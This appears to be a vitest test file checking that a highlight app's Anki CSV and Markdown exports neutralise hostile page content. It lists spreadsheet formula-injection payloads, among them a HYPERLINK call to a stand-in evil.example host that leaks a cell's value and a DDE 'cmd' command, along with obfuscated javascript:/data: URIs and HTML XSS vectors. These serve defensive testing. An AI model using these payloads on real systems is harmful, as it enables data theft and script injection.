// Exports of hostile highlights: a page decides the text, note, image and address of what the user
// highlights there, so nothing it puts in them may turn into a spreadsheet formula, hide an Anki
// note, leave a Markdown code fence, or become a live link, image or HTML in a Markdown viewer.
import { ParserOptions } from '@fast-csv/parse/build/src/ParserOptions'
import { Parser } from '@fast-csv/parse/build/src/parser/Parser'
import { describe, expect, it } from 'vitest'
import { createBookmark } from '../domain/entities/bookmark'
import { MediaType, createMark } from '../domain/entities/mark'
import { toAnkiCsv, toCsvField } from './export-anki-csv'
import { isSafeLinkTarget, toMarkdown } from './export-markdown'
import { readTransferFixture } from './fixture-files'
import { importKindleClippings } from './kindle-clippings'

const NOW = Date.UTC(2025, 0, 1)
const URL = 'https://hostile.example/page'

function libraryOf(texts: readonly string[], notes = '') {
  const bookmark = createBookmark({ _id: 'b', url: URL, title: 'Page' }, NOW)
  const marks = texts.map((text, index) =>
    createMark({ _id: `m${index}`, _bookmark: 'b', url: URL, text, notes, createdAt: NOW }, NOW),
  )
  return { bookmarks: [bookmark], marks }
}

/** Rows as Anki reads the file: `#` starts a comment line, fields are RFC 4180. */
function ankiRows(csv: string): string[][] {
  return new Parser(new ParserOptions({ comment: '#' })).parse(csv, false).rows
}

/** What a spreadsheet would evaluate: a cell whose text starts a formula. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell.trimStart()) || /^[=+\-@]/.test(cell)
}

describe('Anki CSV against formula injection', () => {
  const payloads = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
  ]

  it('starts no cell with a formula character, and keeps the text after an apostrophe', () => {
    const rows = ankiRows(toAnkiCsv(libraryOf(payloads, '=evil()')))
    expect(rows).toHaveLength(payloads.length)
    for (const [index, row] of rows.entries()) {
      for (const cell of row) {
        expect(isFormula(cell), cell).toBe(false)
      }
      expect(row[0]).toBe(`'${payloads[index]?.trim()}`)
      expect(row[1]?.startsWith("'=evil()")).toBe(true)
    }
  })

  it('leaves ordinary text as it was', () => {
    expect(toCsvField('A quote - with a dash')).toBe('A quote - with a dash')
    expect(toCsvField('email me @ home')).toBe('email me @ home')
  })

  it('quotes a field starting with # so that Anki keeps the note', () => {
    expect(toCsvField('#1 rule')).toBe('"#1 rule"')
    const rows = ankiRows(toAnkiCsv(libraryOf(['#hashtag highlight', '#separator:Tab'])))
    expect(rows.map((row) => row[0])).toEqual(['#hashtag highlight', '#separator:Tab'])
  })

  it('neutralises every cell of the real Kindle fixtures and loses no highlight', async () => {
    let next = 0
    const imported = await importKindleClippings(
      readTransferFixture('kindle/samueldg_clippings.txt'),
      {
        now: NOW,
        createId: () => `k${++next}`,
      },
    )
    const hostile = imported.marks.map((mark, index) =>
      index % 2 === 0 ? { ...mark, text: `=${mark.text ?? ''}` } : mark,
    )
    const rows = ankiRows(toAnkiCsv({ bookmarks: imported.bookmarks, marks: hostile }))
    const withText = hostile.filter((mark) => (mark.text ?? '').trim() !== '')
    expect(rows).toHaveLength(withText.length)
    for (const row of rows) {
      expect(row.some(isFormula), row.join(' | ')).toBe(false)
    }
  })
})

describe('Markdown export against injection', () => {
  function markdownOf(
    overrides: { url?: string; coverImageUrl?: string },
    mark: Omit<Parameters<typeof createMark>[0], '_id' | '_bookmark' | 'url'>,
  ): string {
    const bookmark = createBookmark({ _id: 'b', url: URL, title: 'Page', ...overrides }, NOW)
    return toMarkdown({
      bookmark,
      marks: [createMark({ ...mark, _id: 'm', _bookmark: 'b', url: bookmark.url }, NOW)],
    })
  }

  const unsafeTargets = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \tjavascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'jav&#x61;script:alert(1)',
    'jav&#97;script:alert(1)',
    'javascript&colon;alert(1)',
    'jav&amp;#x61;script:alert(1)',
    'javascript\\:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:image/svg+xml,<svg onload=alert(1)>',
  ]

  it.each(unsafeTargets)('writes no link or image to %j', (target) => {
    expect(isSafeLinkTarget(target)).toBe(false)
    const markdown = markdownOf(
      { url: target, coverImageUrl: target },
      { imageSrc: target, imageAlt: 'alt', mediaType: MediaType.IMAGE },
    )
    // No Markdown link or image target, no autolink: the address is only ever text.
    expect(markdown).not.toMatch(/\]\(/)
    expect(markdown).not.toMatch(/<[a-z]+:/i)
  })

  it('still links ordinary addresses, with & written so that no entity is decoded', () => {
    expect(isSafeLinkTarget('https://example.com/a?b=1&c=2')).toBe(true)
    expect(isSafeLinkTarget('/relative/path')).toBe(true)
    const markdown = markdownOf({ url: 'https://example.com/?a=1&amp=2' }, { text: 'x' })
    expect(markdown).toContain('](https://example.com/?a=1\\&amp=2)')
  })

  it('keeps highlighted code inside its fence whatever backticks it holds', () => {
    const code = ['let a = 1', '```', '[click](javascript:alert(1))', '````', 'end'].join('\n')
    const markdown = markdownOf({}, { text: code, mediaType: MediaType.CODE })
    const lines = markdown.split('\n')
    const open = lines.findIndex((line) => /^> `{3,}$/.test(line))
    const fence = lines[open]?.slice(2) ?? ''
    expect(fence).toBe('`````')
    const close = lines.findIndex((line, index) => index > open && line === `> ${fence}`)
    expect(lines.slice(open + 1, close)).toEqual(code.split('\n').map((line) => `> ${line}`))
    // Nothing between the fences can close it: every backtick run inside is shorter.
    for (const line of lines.slice(open + 1, close)) {
      for (const run of line.match(/`+/g) ?? []) {
        expect(run.length).toBeLessThan(fence.length)
      }
    }
  })

  it('treats a lone carriage return as the line break a renderer sees', () => {
    const markdown = markdownOf({}, { text: 'a\r```\rb', mediaType: MediaType.CODE })
    expect(markdown).toContain('> ````\n> a\n> ```\n> b\n> ````')
    const quote = markdownOf({}, { text: 'first\r# heading\r<script>x</script>' })
    expect(quote).toContain('> first\n> \\# heading\n> \\<script\\>x\\</script\\>')
  })

  it('writes link, image and HTML syntax in highlights, notes and tags as text', () => {
    const hostile =
      '[x](javascript:alert(1)) ![y](https://t.example/p.png) <img src=x onerror=alert(1)> &#60;b&#62;'
    const markdown = markdownOf(
      { url: 'https://example.com/<img src=x onerror=alert(1)>' },
      { text: hostile, notes: `~~~\n${hostile}`, tags: ['<svg/onload=alert(1)>'] },
    )
    // After the front matter and the page's own link line.
    const body = markdown.slice(markdown.indexOf('\n> '))
    // Every specials is escaped: no unescaped [, <, & or ~ is left in the body.
    expect(body).not.toMatch(/(^|[^\\])[[<&~]/m)
    expect(body).toContain('\\<img src=x onerror=alert(1)\\>')
    expect(body).toContain('\\&#60;b\\&#62;')
    expect(body).toContain('#\\<svg/onload=alert(1)\\>')
  })
})
